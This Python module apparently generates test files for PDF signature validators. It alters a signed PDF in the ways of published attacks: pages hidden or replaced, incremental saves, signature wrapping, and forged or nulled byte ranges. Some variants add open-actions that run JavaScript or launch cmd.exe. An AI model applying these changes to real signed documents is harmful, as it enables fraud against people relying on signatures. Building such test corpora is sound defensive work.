"""Signed sheets changed after the signature, in the ways of the published attacks on PDF signatures: shadow attacks (hide, replace,
hide and replace), incremental saving, signature wrapping and universal forgery, each with its variants.

A reader that looks at the signed bytes alone calls most of them valid. Nothing here was taken from anywhere; the names are those of
the papers (Mainka et al., "Shadow Attacks", NDSS 2021; Mladenov et al., "1 Trillion Dollar Refund", CCS 2019).
"""

import io
import re
from collections.abc import Callable, Iterator

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.content import RawContent
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

Change = Callable[[IncrementalPdfFileWriter], None]


def attacked(pdf: bytes) -> Iterator[tuple[str, bytes]]:
    """(name, file) of every attack on a signed sheet."""
    for name, change in _CHANGES.items():
        yield name, saved_again(pdf, change)
    yield from _wrapped(pdf)
    yield from _forged(pdf)


def saved_again(pdf: bytes, change: Change) -> bytes:
    """The file with one more revision behind its signed bytes, as any editor saves it."""
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _page(writer: IncrementalPdfFileWriter) -> generic.DictionaryObject:
    page = writer.root["/Pages"]["/Kids"][0].get_object()
    writer.mark_update(page.container_ref)
    return page


def _drawn_over(writer: IncrementalPdfFileWriter) -> None:
    writer.add_stream_to_page(0, writer.add_object(generic.StreamObject(stream_data=b"1 1 1 rg 40 40 500 700 re f")))


def _other_content(writer: IncrementalPdfFileWriter) -> None:
    _page(writer)["/Contents"] = writer.add_object(generic.StreamObject(stream_data=b"BT (75000.00) Tj ET"))


def _note(kind: str) -> Change:
    def change(writer: IncrementalPdfFileWriter) -> None:
        note = generic.DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Annot"),
                pdf_name("/Subtype"): pdf_name(kind),
                pdf_name("/Rect"): generic.ArrayObject([generic.NumberObject(n) for n in (40, 40, 540, 740)]),
                pdf_name("/Contents"): generic.TextStringObject("75000.00"),
                pdf_name("/F"): generic.NumberObject(4),
            }
        )
        page = _page(writer)
        page[pdf_name("/Annots")] = generic.ArrayObject([*page.get("/Annots", ()), writer.add_object(note)])

    return change


def _root(key: str, value: Callable[[], generic.PdfObject]) -> Change:
    def change(writer: IncrementalPdfFileWriter) -> None:
        writer.root[pdf_name(key)] = value()
        writer.update_root()

    return change


def _action(kind: str, key: str, what: str) -> Callable[[], generic.PdfObject]:
    return lambda: generic.DictionaryObject({pdf_name("/S"): pdf_name(kind), pdf_name(key): generic.TextStringObject(what)})


def _page_twice(writer: IncrementalPdfFileWriter) -> None:
    pages = writer.root["/Pages"]
    pages["/Kids"].append(pages["/Kids"].raw_get(0))
    pages["/Count"] = generic.NumberObject(len(pages["/Kids"]))
    writer.mark_update(pages.container_ref)


def _no_pages(writer: IncrementalPdfFileWriter) -> None:
    writer.root["/Pages"]["/Kids"] = generic.ArrayObject()
    writer.mark_update(writer.root["/Pages"].container_ref)


def _other_font(writer: IncrementalPdfFileWriter) -> None:
    fonts = _page(writer)["/Resources"]["/Font"]
    for name in list(fonts):
        font = fonts[name]
        font[pdf_name("/ToUnicode")] = writer.add_object(generic.StreamObject(stream_data=b"beginbfchar <0001> <0037> endbfchar"))
        writer.mark_update(font.container_ref)


def _smaller_page(writer: IncrementalPdfFileWriter) -> None:
    _page(writer)[pdf_name("/CropBox")] = generic.ArrayObject([generic.NumberObject(n) for n in (0, 0, 200, 200)])


def _field_changed(writer: IncrementalPdfFileWriter) -> None:
    form = writer.root["/AcroForm"]
    form[pdf_name("/NeedAppearances")] = generic.BooleanObject(True)
    writer.update_container(form)


def _field_gone(writer: IncrementalPdfFileWriter) -> None:
    writer.root["/AcroForm"]["/Fields"] = generic.ArrayObject()
    writer.update_container(writer.root["/AcroForm"])


def _nothing(writer: IncrementalPdfFileWriter) -> None:
    writer.update_root()


def _picture_over(writer: IncrementalPdfFileWriter) -> None:
    RawContent(b"q 500 0 0 700 40 40 cm /Hidden Do Q").set_writer(writer)
    _drawn_over(writer)


_CHANGES: dict[str, Change] = {
    "hide: a white sheet over the page": _drawn_over,
    "hide: a picture over the page": _picture_over,
    "hide: the page cropped": _smaller_page,
    "replace: another content": _other_content,
    "replace: another font's letters": _other_font,
    "replace: a field's appearance": _field_changed,
    "replace: the page twice": _page_twice,
    "replace: no page": _no_pages,
    "annotation: free text": _note("/FreeText"),
    "annotation: stamp": _note("/Stamp"),
    "annotation: redaction": _note("/Redact"),
    "annotation: a link": _note("/Link"),
    "action: a script when opened": _root("/OpenAction", _action("/JavaScript", "/JS", "app.alert(1)")),
    "action: a program when opened": _root("/OpenAction", _action("/Launch", "/F", "cmd.exe")),
    "action: a script before printing": _root(
        "/AA", lambda: generic.DictionaryObject({pdf_name("/WP"): _action("/JavaScript", "/JS", "1")()})
    ),
    "layers: all off": _root("/OCProperties", lambda: generic.DictionaryObject({pdf_name("/OCGs"): generic.ArrayObject()})),
    "names: an embedded file": _root("/Names", lambda: generic.DictionaryObject({pdf_name("/EmbeddedFiles"): generic.DictionaryObject()})),
    "rights: none left": _root("/Perms", generic.DictionaryObject),
    "incremental saving: nothing said": _nothing,
    "incremental saving: the field gone": _field_gone,
}


def _range(pdf: bytes) -> re.Match[bytes]:
    found = re.search(rb"/ByteRange \[0 (\d+) (\d+) (\d+)\]", pdf)
    assert found is not None
    return found


def _wrapped(pdf: bytes) -> Iterator[tuple[str, bytes]]:
    """Signature wrapping: the signed bytes moved away, others in their place."""
    found = _range(pdf)
    first, second, length = (int(number) for number in found.groups())
    tail = pdf[second:]
    yield "incremental saving: no table, no trailer", pdf + b"9 0 obj\n<</Type/Catalog>>\nendobj\n"
    yield "incremental saving: a trailer alone", pdf + b"trailer<</Root 9 0 R>>\nstartxref\n0\n%%EOF"
    evil = b"9 0 obj\n<</Type/Catalog/Pages 8 0 R>>\nendobj\n"
    moved = _told(pdf, found, first, second + len(evil), length)
    yield "wrapping: between container and tail", moved[:second] + evil + tail
    yield "wrapping: the tail twice", _told(pdf, found, first, second + length, length) + tail
    yield "wrapping: a second range", pdf + found[0]
    yield "wrapping: a longer range", _told(pdf + b"\n%evil", found, first, second, length + 6)


def _told(pdf: bytes, found: re.Match[bytes], *numbers: int) -> bytes:
    said = b"/ByteRange [0 %d %d %d]" % numbers
    return pdf[: found.start()] + said.ljust(len(found[0])) + pdf[found.end() :] if len(said) <= len(found[0]) else pdf + said


def _forged(pdf: bytes) -> Iterator[tuple[str, bytes]]:
    """Universal forgery: the signature left without what it needs, so that a reader has nothing to complain of."""
    found = _range(pdf)
    first, second = int(found[1]), int(found[2])
    gap = pdf[first:second]
    yield "forgery: no container", pdf[:first] + b"<" + b"0" * (len(gap) - 2) + b">" + pdf[second:]
    yield "forgery: an empty container", pdf[:first] + b"<>".ljust(len(gap)) + pdf[second:]
    yield "forgery: null as container", pdf[:first] + b"null".ljust(len(gap)) + pdf[second:]
    yield "forgery: no range", pdf.replace(found[0], b" " * len(found[0]))
    yield "forgery: null as range", pdf.replace(found[0], b"/ByteRange null".ljust(len(found[0])))
    yield "forgery: negative numbers", pdf.replace(found[0], b"/ByteRange [0 -1 -1 -1]".ljust(len(found[0])))
    yield "forgery: an empty range", pdf.replace(found[0], b"/ByteRange [0 0 0 0]".ljust(len(found[0])))
    yield "forgery: the range by reference", pdf.replace(found[0], b"/ByteRange 9 0 R".ljust(len(found[0])))
